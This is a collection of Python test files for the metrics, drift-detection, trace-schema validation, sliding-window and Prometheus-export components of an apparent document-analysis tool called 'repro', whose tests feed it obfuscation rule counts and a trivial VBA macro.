        benign = [0.05 + 0.01 * (i % 5) for i in range(40)]
        hostile = [0.85 + 0.01 * (i % 5) for i in range(40)]
        baseline = _score_registry(benign).to_dict()
        live = _score_registry(hostile).to_dict()
        report = score_drift(baseline, live)
        (dim,) = report.dimensions
        assert dim.name == "score.probability"
        assert dim.metric == "psi"
        assert dim.verdict == "drift"
        assert "mean 0.070 -> 0.870" in dim.detail
        assert not report.ok
        assert report.to_dict()["drifted"] == ["score.probability"]

    def test_self_comparison_is_ok(self):
        snapshot = _score_registry(
            [0.1 * (i % 9) for i in range(50)],
            rules=[("o1-hex", 30), ("o2-concat", 20)],
        ).to_dict()
        report = score_drift(snapshot, snapshot)
        assert report.ok
        assert all(d.verdict == "ok" for d in report.dimensions)
        assert all(d.value == pytest.approx(0.0) for d in report.dimensions)

    def test_small_samples_pass_as_insufficient_data(self):
        baseline = _score_registry([0.1] * 5).to_dict()
        live = _score_registry([0.9] * 5).to_dict()
        report = score_drift(baseline, live)
        (dim,) = report.dimensions
        assert dim.verdict == "ok"
        assert dim.detail == "insufficient data"
        # A looser floor grades the same data for real.
        strict = score_drift(
            baseline, live, DriftThresholds(min_count=5)
        )
        assert strict.dimensions[0].verdict == "drift"

    def test_lint_rule_mix_shift(self):
        baseline = _score_registry(
            [], rules=[("o1-hex", 40), ("o2-concat", 10)]
        ).to_dict()
        live = _score_registry(
            [], rules=[("o1-hex", 10), ("o2-concat", 40)]
        ).to_dict()
        report = score_drift(baseline, live)
        (dim,) = report.dimensions
        assert dim.name == "lint.rules"
        assert dim.verdict == "drift"
        assert "top mover:" in dim.detail

    def test_rule_missing_on_one_side_still_compares(self):
        baseline = _score_registry([], rules=[("o1-hex", 40)]).to_dict()
        live = _score_registry(
            [], rules=[("o1-hex", 20), ("o9-novel", 20)]
        ).to_dict()
        (dim,) = score_drift(baseline, live).dimensions
        assert dim.verdict == "drift"
        # The union of rule names is compared, so a brand-new rule on the
        # live side still yields a single aligned PSI dimension.
        assert dim.baseline_count == 40
        assert dim.live_count == 40

    def test_feature_mean_shift_uses_worst_column(self):
        steady = [float(i % 10) for i in range(30)]
        shifted = [value + 20.0 for value in steady]
        baseline = _score_registry(
            [],
            feature_columns=[
                ("feature.V.c00", steady), ("feature.V.c01", steady)
            ],
        ).to_dict()
        live = _score_registry(
            [],
            feature_columns=[
                ("feature.V.c00", steady), ("feature.V.c01", shifted)
            ],
        ).to_dict()
        (dim,) = score_drift(baseline, live).dimensions
        assert dim.name == "feature.V"
        assert dim.metric == "smd"
        assert dim.verdict == "drift"
        assert dim.detail.startswith("c01 mean")

    def test_constant_baseline_column_scales_by_live_spread(self):
        flat = [5.0] * 30
        live_values = [5.0 + 0.2 * (i % 10) for i in range(30)]
        baseline = _score_registry(
            [], feature_columns=[("feature.J.c03", flat)]
        ).to_dict()
        live = _score_registry(
            [], feature_columns=[("feature.J.c03", live_values)]
        ).to_dict()
        (dim,) = score_drift(baseline, live).dimensions
        assert math.isfinite(dim.value)
        assert dim.value < 1e6

    def test_both_sides_constant_but_shifted_caps_at_finite(self):
        baseline = _score_registry(
            [], feature_columns=[("feature.J.c03", [5.0] * 30)]
        ).to_dict()
        live = _score_registry(
            [], feature_columns=[("feature.J.c03", [6.0] * 30)]
        ).to_dict()
        (dim,) = score_drift(baseline, live).dimensions
        assert dim.value == 1e6  # JSON-safe cap, still "drift"
        assert dim.verdict == "drift"


class TestDriftMonitor:
    def test_evaluate_publishes_gauges_and_events(self):
        registry = MetricsRegistry(trace=True)
        histogram = registry.histogram("score.probability", SCORE_BUCKETS)
        for i in range(40):
            histogram.observe(0.9 - 0.01 * (i % 5))
        baseline = capture_profile(
            _score_registry([0.05 + 0.01 * (i % 5) for i in range(40)])
        )
        monitor = DriftMonitor(baseline, registry)
        report = monitor.evaluate()
        assert not report.ok
        snapshot = registry.to_dict()
        assert snapshot["gauges"]["drift.score.probability"] > 0.25
        assert snapshot["gauges"]["drift.dimensions_drifted"] == 1
        drift_events = [
            e for e in registry.events if e.get("type") == "drift"
        ]
        assert len(drift_events) == 1
        event = drift_events[0]
        assert event["name"] == "score.probability"
        assert event["metric"] == "psi"
        assert event["verdict"] == "drift"

    def test_tick_is_interval_gated(self):
        clock = {"now": 0.0}
        registry = MetricsRegistry()
        monitor = DriftMonitor(
            capture_profile(registry),
            registry,
            interval_s=5.0,
            clock=lambda: clock["now"],
        )
        assert monitor.tick() is not None
        assert monitor.tick() is None
        clock["now"] = 4.9
        assert monitor.tick() is None
        clock["now"] = 5.1
        assert monitor.tick() is not None

    def test_disabled_registry_is_a_no_op(self):
        from repro.obs.metrics import NULL_REGISTRY

        monitor = DriftMonitor({}, NULL_REGISTRY)
        assert monitor.tick() is None
        assert monitor.last_report is None

    def test_accepts_bare_metrics_snapshots(self):
        registry = _score_registry([0.5] * 25)
        monitor = DriftMonitor(registry.to_dict(), registry)
        report = monitor.evaluate()
        assert report.ok
