"""An independent stdlib validator for the ``--trace-out`` event schema.

Deliberately *not* imported from :mod:`repro.obs.events`: this copy is the
test suite's (and CI's) second opinion, so a schema regression in the
library cannot validate itself.  Keep the two in sync by hand — the
``test_validators_agree`` test fails when they drift.
"""

from __future__ import annotations

FIELDS = {
    "type": (str,),
    "name": (str,),
    "ts": (int, float),
    "dur": (int, float),
    "doc": (str, type(None)),
    "outcome": (str,),
    "pid": (int,),
    "depth": (int,),
}

DRIFT_FIELDS = {
    "type": (str,),
    "name": (str,),
    "ts": (int, float),
    "metric": (str,),
    "value": (int, float),
    "verdict": (str,),
    "pid": (int,),
}

SERVE_FIELDS = {
    "type": (str,),
    "name": (str,),
    "ts": (int, float),
    "event": (str,),
    "detail": (str,),
    "pid": (int,),
}

FIELDS_BY_TYPE = {"span": FIELDS, "drift": DRIFT_FIELDS, "serve": SERVE_FIELDS}

SERVE_EVENTS = (
    "admitted",
    "shed",
    "rejected",
    "deadline_expired",
    "breaker",
    "drain",
    "connection",
)

CONNECTION_PHASES = ("opened", "reused", "closed", "idle_timeout")


def validate_event(event) -> dict:
    assert isinstance(event, dict), f"event is {type(event).__name__}, not object"
    assert event.get("type") in FIELDS_BY_TYPE, f"unknown type {event.get('type')!r}"
    fields = FIELDS_BY_TYPE[event["type"]]
    assert set(event) == set(fields), (
        f"fields {sorted(event)} != {sorted(fields)}"
    )
    for field, allowed in fields.items():
        value = event[field]
        assert not isinstance(value, bool) and isinstance(value, allowed), (
            f"{field}={value!r} has type {type(value).__name__}"
        )
    if event["type"] == "span":
        assert event["outcome"] in ("ok", "error"), event["outcome"]
        assert event["dur"] >= 0, event["dur"]
        assert event["depth"] >= 0, event["depth"]
    elif event["type"] == "drift":
        assert event["metric"] in ("psi", "kl", "smd"), event["metric"]
        assert event["verdict"] in ("ok", "warn", "drift"), event["verdict"]
        assert event["value"] >= 0, event["value"]
    else:
        assert event["event"] in SERVE_EVENTS, event["event"]
        if event["event"] == "connection":
            phase = event["detail"].split(" ", 1)[0]
            assert phase in CONNECTION_PHASES, phase
    return event


def validate_lines(text: str) -> int:
    """Validate a whole JSON-lines trace; returns the event count."""
    import json

    count = 0
    for line_number, line in enumerate(text.splitlines(), start=1):
        if not line.strip():
            continue
        try:
            validate_event(json.loads(line))
        except AssertionError as error:
            raise AssertionError(f"line {line_number}: {error}") from None
        count += 1
    return count
