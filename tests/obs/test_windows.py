"""Sliding-window views: snapshot deltas, time gating, eviction."""

from repro.obs.metrics import NULL_REGISTRY, MetricsRegistry
from repro.obs.windows import SlidingWindow, WindowView, _snapshot_delta


class FakeClock:
    def __init__(self, now: float = 0.0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def _window(window_s=60.0, buckets=12):
    clock = FakeClock()
    return SlidingWindow(window_s, buckets, clock=clock), clock


class TestSnapshotDelta:
    def test_none_baseline_is_the_whole_state(self):
        registry = MetricsRegistry()
        registry.counter("a").inc(5)
        registry.histogram("h", (1.0, 2.0)).observe(0.5)
        counters, histograms, moments = _snapshot_delta(
            registry.to_dict(), None
        )
        assert counters["a"] == 5
        assert histograms["h"].count == 1
        assert moments == {}

    def test_counters_and_buckets_subtract_exactly(self):
        registry = MetricsRegistry()
        registry.counter("a").inc(3)
        registry.histogram("h", (1.0, 2.0)).observe(0.5)
        old = registry.to_dict()
        registry.counter("a").inc(4)
        registry.histogram("h", (1.0, 2.0)).observe(1.5)
        registry.histogram("h", (1.0, 2.0)).observe(1.5)
        counters, histograms, _ = _snapshot_delta(registry.to_dict(), old)
        assert counters["a"] == 4
        assert histograms["h"].count == 2
        assert histograms["h"].counts == [0, 2, 0]

    def test_delta_minmax_bounded_by_occupied_buckets(self):
        registry = MetricsRegistry()
        h = registry.histogram("h", (1.0, 2.0, 4.0))
        h.observe(0.5)  # only in the baseline
        old = registry.to_dict()
        h.observe(3.0)  # only in the window
        _, histograms, _ = _snapshot_delta(registry.to_dict(), old)
        delta = histograms["h"]
        # The 0.5 observation is subtracted out: bounds come from the
        # (2.0, 4.0] bucket alone, not from the cumulative min of 0.5.
        assert delta.min == 2.0
        assert delta.max == 4.0
        assert 2.0 <= delta.percentile(0.5) <= 4.0

    def test_moment_deltas(self):
        registry = MetricsRegistry()
        registry.moment("m").observe(1.0)
        old = registry.to_dict()
        registry.moment("m").observe(5.0)
        _, _, moments = _snapshot_delta(registry.to_dict(), old)
        assert moments["m"] == {"count": 1, "sum": 5.0, "mean": 5.0}


class TestSlidingWindow:
    def test_tick_is_time_gated_per_bucket(self):
        window, clock = _window(window_s=60.0, buckets=12)  # bucket = 5s
        registry = MetricsRegistry()
        assert window.tick(registry) is True
        assert window.tick(registry) is False  # same bucket
        clock.advance(4.9)
        assert window.tick(registry) is False
        clock.advance(0.2)
        assert window.tick(registry) is True
        assert len(window) == 2

    def test_disabled_registry_never_snapshots(self):
        window, _ = _window()
        assert window.tick(NULL_REGISTRY) is False
        assert len(window) == 0

    def test_ring_stays_bounded_on_unbounded_feeds(self):
        window, clock = _window(window_s=10.0, buckets=5)
        registry = MetricsRegistry()
        for _ in range(100):
            registry.counter("tasks").inc()
            window.tick(registry)
            clock.advance(2.0)
        # buckets + 1 snapshots: the extra one is the sub-horizon baseline.
        assert len(window) <= 6

    def test_view_subtracts_the_out_of_window_baseline(self):
        window, clock = _window(window_s=10.0, buckets=5)
        registry = MetricsRegistry()
        for step in range(20):
            registry.counter("tasks").inc()
            registry.histogram("span.document").observe(0.01 * (step + 1))
            window.tick(registry)
            clock.advance(1.0)
        view = window.view(registry)
        # 20 total, but the window only covers the last ~10 seconds.
        assert view.count("tasks") < 20
        assert 9 <= view.count("tasks") <= 12
        assert view.rate("tasks") > 0.0
        assert view.count("span.document") == view.count("tasks")
        # Windowed p95 reflects recent (larger) observations only.
        assert view.percentile("span.document", 0.95) > 0.1

    def test_huge_window_equals_cumulative_totals(self):
        window, clock = _window(window_s=3600.0, buckets=12)
        registry = MetricsRegistry()
        for _ in range(10):
            registry.counter("tasks").inc()
            registry.histogram("span.document").observe(0.02)
            window.tick(registry)
            clock.advance(1.0)
        view = window.view(registry)
        assert view.count("tasks") == 10
        assert view.histograms["span.document"].count == 10
        assert view.span_s <= 3600.0

    def test_ratio_and_idle_rates(self):
        window, clock = _window(window_s=10.0, buckets=5)
        registry = MetricsRegistry()
        window.tick(registry)
        view = window.view(registry)
        assert view.rate("anything") == 0.0
        assert view.ratio("a", "b") == 0.0
        registry.counter("quarantined").inc(1)
        registry.histogram("span.document").observe(0.01)
        registry.histogram("span.document").observe(0.01)
        clock.advance(2.0)
        view = window.view(registry)
        assert view.ratio("quarantined", "span.document") == 0.5

    def test_view_to_dict_roundtrips_to_json(self):
        import json

        window, clock = _window(window_s=10.0, buckets=5)
        registry = MetricsRegistry()
        registry.counter("a").inc()
        registry.histogram("h").observe(0.1)
        registry.moment("m").observe(2.0)
        registry.gauge("g").set(7.0)
        window.tick(registry)
        clock.advance(1.0)
        payload = json.loads(json.dumps(window.view(registry).to_dict()))
        assert payload["window_s"] == 10.0
        assert payload["counters"]["a"] == 1
        assert payload["gauges"]["g"] == 7.0
        assert payload["histograms"]["h"]["count"] == 1
        assert payload["moments"]["m"]["count"] == 1

    def test_bucket_layout_change_treated_as_fresh(self):
        old = {"histograms": {"h": {
            "buckets": [1.0], "counts": [1, 0], "count": 1, "sum": 0.5,
            "min": 0.5, "max": 0.5,
        }}}
        new = {"histograms": {"h": {
            "buckets": [1.0, 2.0], "counts": [2, 1, 0], "count": 3,
            "sum": 3.0, "min": 0.5, "max": 1.5,
        }}}
        _, histograms, _ = _snapshot_delta(new, old)
        assert histograms["h"].count == 3  # no subtraction across layouts


class TestWindowView:
    def test_percentile_of_missing_histogram_is_zero(self):
        view = WindowView(60.0, 60.0, {}, {}, {}, {})
        assert view.percentile("nope", 0.95) == 0.0
        assert view.count("nope") == 0.0
