"""Tests for the JSON-lines trace format and its validators."""

import json

import pytest

from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine, MetricsRegistry
from repro.obs import (
    read_events,
    read_events_tolerant,
    validate_event,
    write_events,
)

from tests.obs import schema_validator


def _valid_event(**overrides) -> dict:
    event = {
        "type": "span",
        "name": "extract",
        "ts": 1.5,
        "dur": 0.002,
        "doc": "ab" * 32,
        "outcome": "ok",
        "pid": 4242,
        "depth": 0,
    }
    event.update(overrides)
    return event


class TestValidator:
    def test_accepts_valid_event(self):
        assert validate_event(_valid_event()) == _valid_event()

    def test_doc_may_be_null(self):
        validate_event(_valid_event(doc=None))

    @pytest.mark.parametrize("field", ["type", "name", "ts", "dur", "doc",
                                       "outcome", "pid", "depth"])
    def test_missing_field_rejected(self, field):
        event = _valid_event()
        del event[field]
        with pytest.raises(ValueError, match=field):
            validate_event(event)

    @pytest.mark.parametrize(
        "overrides",
        [
            {"dur": "fast"},        # wrong type
            {"dur": -0.1},          # negative duration
            {"depth": -1},          # negative depth
            {"pid": 1.5},           # float pid
            {"pid": True},          # bool is not an int here
            {"outcome": "maybe"},   # unknown outcome
            {"type": "log"},        # unknown event type
            {"extra": 1},           # unknown field
        ],
    )
    def test_bad_events_rejected(self, overrides):
        event = _valid_event(**overrides)
        with pytest.raises(ValueError):
            validate_event(event)
        with pytest.raises(AssertionError):
            schema_validator.validate_event(event)

    def test_non_object_rejected(self):
        with pytest.raises(ValueError):
            validate_event([1, 2, 3])


class TestRoundTrip:
    def test_write_then_read_round_trips(self, tmp_path):
        events = [_valid_event(), _valid_event(name="analyze", depth=1)]
        path = tmp_path / "events.jsonl"
        assert write_events(path, events) == 2
        assert read_events(path) == events

    def test_read_rejects_invalid_lines(self, tmp_path):
        path = tmp_path / "events.jsonl"
        path.write_text(json.dumps(_valid_event(outcome="maybe")) + "\n")
        with pytest.raises(ValueError, match="line 1"):
            read_events(path)

    def test_read_rejects_non_json(self, tmp_path):
        path = tmp_path / "events.jsonl"
        path.write_text("not json\n")
        with pytest.raises(ValueError, match="line 1"):
            read_events(path)

    def test_write_refuses_invalid_events(self, tmp_path):
        with pytest.raises(ValueError):
            write_events(tmp_path / "x.jsonl", [{"nope": 1}])


class TestTolerantReader:
    def test_clean_trace_reads_with_zero_skips(self, tmp_path):
        events = [_valid_event(), _valid_event(name="analyze", depth=1)]
        path = tmp_path / "events.jsonl"
        write_events(path, events)
        assert read_events_tolerant(path) == (events, 0)

    def test_truncated_final_line_is_skipped_and_counted(self, tmp_path):
        path = tmp_path / "events.jsonl"
        write_events(path, [_valid_event()])
        with open(path, "a", encoding="utf-8") as handle:
            handle.write('{"type": "span", "name": "extr')  # torn mid-write
        events, skipped = read_events_tolerant(path)
        assert len(events) == 1
        assert skipped == 1

    def test_schema_invalid_lines_are_skipped(self, tmp_path):
        path = tmp_path / "events.jsonl"
        lines = [
            json.dumps(_valid_event()),
            json.dumps(_valid_event(outcome="maybe")),  # bad enum
            json.dumps([1, 2, 3]),                      # not an object
            "not json at all",
            json.dumps(_valid_event(name="analyze")),
        ]
        path.write_text("\n".join(lines) + "\n")
        events, skipped = read_events_tolerant(path)
        assert [event["name"] for event in events] == ["extract", "analyze"]
        assert skipped == 3

    def test_binary_garbage_never_raises(self, tmp_path):
        path = tmp_path / "events.jsonl"
        path.write_bytes(b"\x00\xff\xfe garbage\n" + b"\x80\x81\n")
        events, skipped = read_events_tolerant(path)
        assert events == []
        assert skipped == 2

    def test_blank_lines_are_neither_events_nor_skips(self, tmp_path):
        path = tmp_path / "events.jsonl"
        path.write_text("\n\n" + json.dumps(_valid_event()) + "\n\n")
        events, skipped = read_events_tolerant(path)
        assert len(events) == 1
        assert skipped == 0

    def test_missing_file_still_raises_oserror(self, tmp_path):
        with pytest.raises(OSError):
            read_events_tolerant(tmp_path / "nope.jsonl")


class TestEngineEvents:
    def test_engine_trace_validates_under_both_validators(self, tmp_path):
        registry = MetricsRegistry(trace=True)
        engine = AnalysisEngine.for_lint(metrics=registry)
        blob = build_document_bytes(["Sub T()\n  Dim a\n  a = 1\nEnd Sub\n"], "docm")
        record = engine.run_batch([blob, b"garbage"])
        assert record[0].ok and not record[1].ok

        path = tmp_path / "events.jsonl"
        write_events(path, registry.events)
        text = path.read_text()
        assert schema_validator.validate_lines(text) == len(registry.events)
        events = read_events(path)

        names = {event["name"] for event in events}
        assert {"batch", "document", "extract"} <= names
        # The good document's spans carry its digest; the garbage one
        # finishes with an error outcome.
        assert any(event["doc"] == record[0].sha256 for event in events)
        assert any(event["outcome"] == "error" for event in events)

    def test_validators_agree(self):
        """The library schemas and the test suite's independent copy match."""
        from repro.obs import EVENT_SCHEMAS

        assert EVENT_SCHEMAS == schema_validator.FIELDS_BY_TYPE

    def test_drift_events_roundtrip(self, tmp_path):
        """Drift events validate, serialize, and agree across validators."""
        event = {
            "type": "drift",
            "name": "score.probability",
            "ts": 12.5,
            "metric": "psi",
            "value": 0.31,
            "verdict": "drift",
            "pid": 4242,
        }
        path = tmp_path / "drift.jsonl"
        assert write_events(path, [event]) == 1
        assert read_events(path) == [event]
        assert schema_validator.validate_lines(path.read_text()) == 1

        for bad in (
            {**event, "metric": "chi2"},
            {**event, "verdict": "maybe"},
            {**event, "value": -0.1},
            {**event, "outcome": "ok"},  # span field on a drift event
        ):
            with pytest.raises(ValueError):
                validate_event(bad)
            with pytest.raises(AssertionError):
                schema_validator.validate_event(bad)
