"""Tests for the metrics registry: instruments, merge algebra, spans."""

import pickle
import time

import pytest

from repro.obs import (
    DEFAULT_LATENCY_BUCKETS,
    Histogram,
    MetricsRegistry,
    Moments,
    NULL_REGISTRY,
)


def _counts(registry: MetricsRegistry) -> dict:
    """The merge-relevant view: everything except event ordering."""
    snapshot = registry.to_dict()
    snapshot["events"] = sorted(
        snapshot["events"], key=lambda e: (e["pid"], e["ts"])
    )
    return snapshot


class TestInstruments:
    def test_counter_accumulates(self):
        registry = MetricsRegistry()
        registry.counter("cache.hits").inc()
        registry.counter("cache.hits").inc(4)
        assert registry.to_dict()["counters"]["cache.hits"] == 5

    def test_counter_rejects_negative(self):
        with pytest.raises(ValueError):
            MetricsRegistry().counter("x").inc(-1)

    def test_gauge_holds_last_value(self):
        registry = MetricsRegistry()
        registry.gauge("queue.depth").set(7)
        registry.gauge("queue.depth").set(3)
        assert registry.to_dict()["gauges"]["queue.depth"] == 3

    def test_same_name_returns_same_instrument(self):
        registry = MetricsRegistry()
        assert registry.counter("a") is registry.counter("a")
        assert registry.histogram("h") is registry.histogram("h")


class TestHistogram:
    def test_bucket_edges_are_inclusive_upper_bounds(self):
        histogram = Histogram((1.0, 2.0, 5.0))
        histogram.observe(1.0)   # exactly on an edge -> that bucket
        histogram.observe(1.001)  # just past it -> next bucket
        histogram.observe(5.0)   # last explicit bucket
        histogram.observe(5.1)   # overflow
        histogram.observe(0.0)   # below everything -> first bucket
        assert histogram.counts == [2, 1, 1, 1]
        assert histogram.count == 5
        assert histogram.min == 0.0
        assert histogram.max == 5.1

    def test_buckets_must_increase(self):
        with pytest.raises(ValueError):
            Histogram((2.0, 1.0))
        with pytest.raises(ValueError):
            Histogram((1.0, 1.0))
        with pytest.raises(ValueError):
            Histogram(())

    def test_percentiles_bracket_the_data(self):
        histogram = Histogram(DEFAULT_LATENCY_BUCKETS)
        values = [0.001, 0.002, 0.004, 0.008, 0.02, 0.04, 0.08, 0.2, 0.4, 0.9]
        for value in values:
            histogram.observe(value)
        p50 = histogram.percentile(0.5)
        p95 = histogram.percentile(0.95)
        assert histogram.min <= p50 <= p95 <= histogram.max
        assert histogram.percentile(0.0) <= histogram.percentile(1.0)

    def test_percentile_of_overflow_returns_observed_max(self):
        histogram = Histogram((0.001,))
        histogram.observe(42.0)
        assert histogram.percentile(0.5) == 42.0

    def test_empty_percentile_is_zero(self):
        assert Histogram((1.0,)).percentile(0.95) == 0.0

    def test_merge_requires_matching_buckets(self):
        with pytest.raises(ValueError):
            Histogram((1.0,)).merge(Histogram((2.0,)))

    def test_round_trip(self):
        histogram = Histogram((0.01, 0.1))
        histogram.observe(0.005)
        histogram.observe(0.5)
        clone = Histogram.from_dict(histogram.to_dict())
        assert clone.to_dict() == histogram.to_dict()


def _sample_registries() -> tuple[MetricsRegistry, MetricsRegistry, MetricsRegistry]:
    a = MetricsRegistry()
    a.counter("cache.hits").inc(3)
    a.counter("errors.extract").inc()
    a.gauge("pool.size").set(2)
    a.histogram("span.extract").observe(0.002)
    a.histogram("span.extract").observe(0.04)

    b = MetricsRegistry()
    b.counter("cache.hits").inc(5)
    b.counter("cache.misses").inc(2)
    b.gauge("pool.size").set(4)
    b.histogram("span.extract").observe(0.01)
    b.histogram("span.analyze").observe(0.1)

    c = MetricsRegistry()
    c.counter("cache.misses").inc(1)
    c.histogram("span.analyze").observe(0.3)
    return a, b, c


def _clone(registry: MetricsRegistry) -> MetricsRegistry:
    return MetricsRegistry.from_dict(registry.to_dict())


class TestMerge:
    def test_merge_is_commutative_over_counts(self):
        a, b, _ = _sample_registries()
        ab = _clone(a).merge(b)
        ba = _clone(b).merge(a)
        assert _counts(ab) == _counts(ba)

    def test_merge_is_associative_over_counts(self):
        a, b, c = _sample_registries()
        left = _clone(a).merge(b).merge(c)
        right = _clone(a).merge(_clone(b).merge(c))
        assert _counts(left) == _counts(right)

    def test_merge_adds_counters_and_buckets(self):
        a, b, _ = _sample_registries()
        merged = _clone(a).merge(b)
        snapshot = merged.to_dict()
        assert snapshot["counters"]["cache.hits"] == 8
        assert snapshot["histograms"]["span.extract"]["count"] == 3
        # Gauges merge by max: a point-in-time high-water mark.
        assert snapshot["gauges"]["pool.size"] == 4

    def test_merge_accepts_raw_snapshots(self):
        a, b, _ = _sample_registries()
        merged = _clone(a).merge(b.to_dict())
        assert merged.to_dict()["counters"]["cache.hits"] == 8

    def test_registry_round_trips_through_pickle(self):
        a, _, _ = _sample_registries()
        clone = pickle.loads(pickle.dumps(a))
        assert _counts(clone) == _counts(a)

    def test_spawn_is_empty_with_same_config(self):
        registry = MetricsRegistry(trace=True)
        registry.counter("x").inc()
        child = registry.spawn()
        assert child.trace is True
        assert child.to_dict()["counters"] == {}


class TestSpans:
    def test_span_records_duration_histogram(self):
        registry = MetricsRegistry()
        with registry.span("extract"):
            time.sleep(0.001)
        histogram = registry.histogram("span.extract")
        assert histogram.count == 1
        assert histogram.sum >= 0.001

    def test_span_nesting_depths(self):
        registry = MetricsRegistry(trace=True)
        with registry.span("outer"):
            with registry.span("inner"):
                pass
            with registry.span("inner"):
                pass
        events = {
            (event["name"], event["depth"]) for event in registry.events
        }
        assert events == {("outer", 0), ("inner", 1)}
        inner, outer = (
            registry.histogram("span.inner"),
            registry.histogram("span.outer"),
        )
        assert inner.count == 2
        assert outer.count == 1
        assert outer.sum >= inner.sum  # inner time is inside outer time

    def test_span_exception_marks_error_outcome(self):
        registry = MetricsRegistry(trace=True)
        with pytest.raises(RuntimeError):
            with registry.span("extract"):
                raise RuntimeError("boom")
        (event,) = registry.events
        assert event["outcome"] == "error"
        # Depth bookkeeping survives the exception.
        assert registry._span_depth == 0

    def test_manual_span_outcome(self):
        registry = MetricsRegistry(trace=True)
        span = registry.span("classify", doc="ab" * 32).start()
        span.finish(outcome="error")
        (event,) = registry.events
        assert event["outcome"] == "error"
        assert event["doc"] == "ab" * 32
        assert span.duration is not None

    def test_metrics_only_mode_buffers_no_events(self):
        registry = MetricsRegistry(trace=False)
        with registry.span("extract"):
            pass
        assert registry.events == []
        assert registry.histogram("span.extract").count == 1


class TestNullRegistry:
    def test_noop_mode_records_nothing(self):
        before = NULL_REGISTRY.to_dict()
        NULL_REGISTRY.counter("cache.hits").inc(10)
        NULL_REGISTRY.gauge("pool.size").set(9)
        NULL_REGISTRY.histogram("span.extract").observe(1.0)
        with NULL_REGISTRY.span("extract"):
            pass
        after = NULL_REGISTRY.to_dict()
        assert before == after
        assert after == {
            "counters": {}, "gauges": {}, "histograms": {}, "moments": {},
            "events": [],
        }
        assert NULL_REGISTRY.events == []

    def test_noop_span_supports_both_protocols(self):
        span = NULL_REGISTRY.span("extract", doc="x")
        assert span.start().finish() is span
        with span:
            pass

    def test_disabled_flag_guards_hot_paths(self):
        assert NULL_REGISTRY.enabled is False
        assert MetricsRegistry().enabled is True

    def test_merge_into_null_is_noop(self):
        a, _, _ = _sample_registries()
        assert NULL_REGISTRY.merge(a).to_dict()["counters"] == {}

    def test_spawn_returns_itself(self):
        assert NULL_REGISTRY.spawn() is NULL_REGISTRY


class TestMoments:
    def test_observe_tracks_running_sums(self):
        moments = Moments()
        for value in (1.0, 2.0, 3.0, 4.0):
            moments.observe(value)
        assert moments.count == 4
        assert moments.mean == pytest.approx(2.5)
        assert moments.variance == pytest.approx(1.25)
        assert moments.std == pytest.approx(1.25**0.5)
        assert (moments.min, moments.max) == (1.0, 4.0)

    def test_observe_aggregate_matches_pointwise(self):
        values = [0.5, 1.5, 2.5, 9.0]
        pointwise = Moments()
        for value in values:
            pointwise.observe(value)
        batched = Moments()
        batched.observe_aggregate(
            len(values),
            sum(values),
            sum(v * v for v in values),
            min(values),
            max(values),
        )
        assert batched.to_dict() == pointwise.to_dict()

    def test_observe_aggregate_ignores_empty_blocks(self):
        moments = Moments()
        moments.observe_aggregate(0, 0.0, 0.0, float("inf"), float("-inf"))
        assert moments.count == 0
        assert moments.to_dict()["min"] is None

    def test_merge_equals_interleaved_observation(self):
        left, right, combined = Moments(), Moments(), Moments()
        for value in (1.0, 2.0):
            left.observe(value)
            combined.observe(value)
        for value in (10.0, 20.0):
            right.observe(value)
            combined.observe(value)
        left.merge(right)
        assert left.to_dict() == combined.to_dict()

    def test_dict_roundtrip(self):
        moments = Moments()
        moments.observe(3.0)
        clone = Moments.from_dict(moments.to_dict())
        assert clone.to_dict() == moments.to_dict()
        empty = Moments.from_dict(Moments().to_dict())
        assert empty.count == 0
        assert empty.min == float("inf")

    def test_small_samples_have_zero_variance(self):
        moments = Moments()
        assert moments.variance == 0.0
        moments.observe(5.0)
        assert moments.variance == 0.0

    def test_registry_moments_merge_by_addition(self):
        parent = MetricsRegistry()
        parent.moment("feature.V.c00").observe(1.0)
        worker = MetricsRegistry()
        worker.moment("feature.V.c00").observe(3.0)
        worker.moment("feature.V.c01").observe(7.0)
        parent.merge(worker.to_dict())
        snapshot = parent.to_dict()["moments"]
        assert snapshot["feature.V.c00"]["count"] == 2
        assert snapshot["feature.V.c00"]["sum"] == 4.0
        assert snapshot["feature.V.c01"]["count"] == 1
