"""Prometheus exposition format and the stdlib /metrics endpoint."""

import json
import urllib.error
import urllib.request

import pytest

from repro.obs.export import (
    CONTENT_TYPE,
    MetricsServer,
    render_prometheus,
    sanitize_name,
)
from repro.obs.metrics import MetricsRegistry
from repro.obs.windows import SlidingWindow


def _populated_registry():
    registry = MetricsRegistry()
    registry.counter("cache.hits").inc(7)
    registry.gauge("drift.score.probability").set(0.12)
    histogram = registry.histogram("span.extract", (0.1, 0.5, 1.0))
    for value in (0.05, 0.3, 0.3, 2.0):
        histogram.observe(value)
    moment = registry.moment("feature.V.c00")
    for value in (1.0, 3.0):
        moment.observe(value)
    return registry


def _parse_samples(text):
    samples = {}
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        name, value = line.rsplit(" ", 1)
        samples[name] = value
    return samples


class TestSanitizeName:
    def test_dots_become_underscores(self):
        assert sanitize_name("span.extract") == "span_extract"

    def test_rule_ids_with_dashes(self):
        assert sanitize_name("lint.rule.o3-chr-chain") == "lint_rule_o3_chr_chain"

    def test_leading_digit_guarded(self):
        assert sanitize_name("9lives") == "_9lives"
        assert sanitize_name("") == "_"


class TestRenderPrometheus:
    def test_counter_family(self):
        text = render_prometheus(_populated_registry())
        assert "# TYPE repro_cache_hits_total counter" in text
        assert "repro_cache_hits_total 7" in text

    def test_gauge_family(self):
        text = render_prometheus(_populated_registry())
        assert "# TYPE repro_drift_score_probability gauge" in text
        assert "repro_drift_score_probability 0.12" in text

    def test_histogram_buckets_are_cumulative_and_capped_by_inf(self):
        samples = _parse_samples(render_prometheus(_populated_registry()))
        buckets = [
            int(samples[f'repro_span_extract_bucket{{le="{bound}"}}'])
            for bound in ("0.1", "0.5", "1")
        ]
        assert buckets == [1, 3, 3]
        assert buckets == sorted(buckets)  # cumulative => monotone
        assert samples['repro_span_extract_bucket{le="+Inf"}'] == "4"
        assert samples["repro_span_extract_count"] == "4"
        assert float(samples["repro_span_extract_sum"]) == pytest.approx(2.65)

    def test_moments_export_count_sum_mean(self):
        samples = _parse_samples(render_prometheus(_populated_registry()))
        assert samples["repro_feature_V_c00_count"] == "2"
        assert samples["repro_feature_V_c00_sum"] == "4"
        assert samples["repro_feature_V_c00_mean"] == "2"

    def test_accepts_plain_snapshots(self):
        registry = _populated_registry()
        assert render_prometheus(registry.to_dict()) == render_prometheus(
            registry
        )

